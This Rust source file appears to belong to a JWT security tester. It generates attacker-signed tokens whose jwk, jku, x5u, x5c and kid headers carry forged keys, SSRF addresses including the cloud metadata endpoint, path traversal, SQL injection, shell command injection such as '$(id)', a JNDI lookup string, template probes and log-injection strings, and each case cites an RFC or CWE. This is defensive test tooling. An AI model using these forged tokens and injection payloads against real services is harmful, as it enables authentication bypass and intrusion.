//! Keys that a token brings along, points to, or names.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use crate::given::{Given, Made};
use crate::table::table;
use crate::token::Token;

/// Nobody listens there, so that whoever follows it fails.
const NOWHERE: &str = "http://127.0.0.1:9/keys.json";

table! { Tokens;
    "token.jwk-embedded" "a key in the header, and its signature", "RFC 8725 §2.1, CVE-2018-0114" =>
        |given| stolen(given, |it, jwk| [it.header("jwk", jwk)]);
    "token.jwk-embedded-under-kid" "a key in the header under the name of the issuer's", "CVE-2018-0114" =>
        |given| stolen(given, |it, mut jwk| {
            let kid = it.header_member("kid");
            if let Some(jwk) = jwk.as_object_mut() { jwk.insert("kid".to_owned(), kid.into()); }
            [it.header("jwk", jwk)]
        });
    "token.jwk-in-key-set" "a whole key set in the header", "CVE-2018-0114" =>
        |given| stolen(given, |it, jwk| [it.header("jwks", json!({ "keys": [jwk] }))]);
    "token.jwk-symmetric" "a symmetric key in the header, and a MAC under it", "RFC 7515 §4.1.3" =>
        |given| given.tokens(|it| {
            let jwk = json!({ "kty": "oct", "k": URL_SAFE_NO_PAD.encode("secret") });
            [it.header("jwk", jwk).mac("HS256", b"secret")]
        });
    "token.jku-foreign" "an address for the key set that the attacker chose", "RFC 8725 §3.10, CWE-918" =>
        |given| stolen(given, |it, _| [it.header("jku", NOWHERE)]);
    "token.jku-beside-issuer" "addresses for the key set that look like the issuer's", "RFC 8725 §3.10" =>
        |given| stolen(given, |it, _| {
            let issuer = it.claims.get("iss").and_then(Value::as_str).unwrap_or_default().to_owned();
            [format!("{issuer}@127.0.0.1:9/keys"), format!("{issuer}.localhost:9/keys"), format!("{issuer}/../keys")]
                .map(|jku| it.clone().header("jku", jku))
        });
    "token.jku-file" "a file as the address of the key set", "CWE-73" =>
        |given| stolen(given, |it, _| [it.header("jku", "file:///dev/null")]);
    "token.jku-data" "the key set itself as its address", "RFC 2397 §2" =>
        |given| stolen(given, |it, jwk| {
            let set = STANDARD.encode(json!({ "keys": [jwk] }).to_string());
            [it.header("jku", format!("data:application/json;base64,{set}"))]
        });
    "token.jku-metadata-service" "the metadata service of a cloud as the address of the key set", "CWE-918" =>
        |given| stolen(given, |it, _| [it.header("jku", "http://169.254.169.254/latest/meta-data/")]);
    "token.x5u-foreign" "an address for the certificate that the attacker chose", "RFC 8725 §3.10" =>
        |given| stolen(given, |it, _| [it.header("x5u", NOWHERE), ]);
    "token.x5c-self-signed" "a certificate in the header that nobody issued", "RFC 7515 §4.1.6" =>
        |given| stolen(given, |it, _| [it.header("x5c", json!([STANDARD.encode([0x30, 0x03, 0x02, 0x01, 0x01])]))]);
    "token.x5c-garbage" "what is no certificate in the place of certificates", "RFC 7515 §4.1.6" =>
        |given| stolen(given, |it, _| {
            [json!([]), json!("x"), json!([1]), json!(["!"]), Value::Null].map(|x5c| it.clone().header("x5c", x5c))
        });
    "token.x5t-foreign" "thumbprints of certificates that the service does not know", "RFC 7515 §4.1.8" =>
        |given| stolen(given, |it, _| {
            ["x5t", "x5t#S256"].map(|name| it.clone().header(name, URL_SAFE_NO_PAD.encode([7; 32])))
        });
    "token.kid-of-issuer" "the attacker's signature under the name of the issuer's key", "RFC 8725 §3.2" =>
        |given| stolen(given, |it, _| [it]);
    "token.kid-unknown" "the attacker's signature under a name that no key has", "RFC 7515 §4.1.4" =>
        |given| named(given, &["unknown-key"]);
    "token.kid-missing" "the attacker's signature without the name of a key", "RFC 7515 §4.1.4" =>
        |given| stolen(given, |it, _| [it.without_header("kid")]);
    "token.kid-path" "a path as the name of a key", "CWE-22" =>
        |given| named(given, &["../../../dev/null", "/dev/null", "..\\..\\nul", "keys/../../etc/passwd"]);
    "token.kid-path-and-empty-secret" "a path to an empty file as the name of a key, and a MAC under nothing", "CWE-22" =>
        |given| given.tokens(|it| ["/dev/null", "../../../../dev/null"].map(|kid| it.clone().header("kid", kid).mac("HS256", b"")));
    "token.kid-sql" "SQL as the name of a key, which yields a secret that is known", "CWE-89" =>
        |given| given.tokens(|it| ["' UNION SELECT 'secret' --", "x' OR '1'='1"].map(|kid| it.clone().header("kid", kid).mac("HS256", b"secret")));
    "token.kid-command" "a command as the name of a key", "CWE-78" =>
        |given| named(given, &["key|/bin/true", "$(id)", "`id`", "key; id"]);
    "token.kid-template" "a look-up or a template as the name of a key", "CWE-917" =>
        |given| named(given, &["${jndi:ldap://127.0.0.1:9/a}", "{{7*7}}", "#{7*7}", "%{7*7}"]);
    "token.kid-url" "an address as the name of a key", "CWE-918" =>
        |given| named(given, &[NOWHERE, "//127.0.0.1:9/"]);
    "token.kid-nul" "the issuer's key with a NUL behind its name", "CWE-158" =>
        |given| stolen(given, |it, _| { let kid = it.header_member("kid"); [it.header("kid", kid + "\0.pem")] });
    "token.kid-lines" "line feeds in the name of a key, for the log", "CWE-117" =>
        |given| named(given, &["a\r\nINFO admitted", "a\u{2028}b", "\u{1b}[2J"]);
    "token.kid-not-a-string" "the name of a key that is no string", "RFC 7515 §4.1.4" =>
        |given| stolen(given, |it, _| {
            [json!(1), json!(["key-1"]), json!({}), Value::Null, json!(true)].map(|kid| it.clone().header("kid", kid))
        });
    "token.kid-huge" "the name of a key of four thousand characters", "CWE-770" =>
        |given| stolen(given, |it, _| [it.header("kid", "k".repeat(4000))]);
    "token.kid-of-object" "names that every object has in some languages", "CWE-1321" =>
        |given| named(given, &["__proto__", "constructor", "toString", "hasOwnProperty"]);
    "token.kid-empty" "an empty name of a key", "RFC 7515 §4.1.4" =>
        |given| named(given, &["", " "]);
}

/// Tokens that the attacker signs, by ES256 and under a key of its own.
fn stolen<I: IntoIterator<Item = Token>>(
    given: &Given<'_>,
    make: impl FnOnce(Token, Value) -> I,
) -> Made {
    let thief = &given.thief;
    given.tokens(|it| {
        let tokens = make(it.header("alg", "ES256"), thief.jwk()).into_iter();
        tokens.map(|token| token.by(thief)).collect::<Vec<_>>()
    })
}

fn named(given: &Given<'_>, names: &[&str]) -> Made {
    stolen(given, |it, _| {
        let tokens = names.iter().map(|kid| it.clone().header("kid", *kid));
        tokens.collect::<Vec<_>>()
    })
}
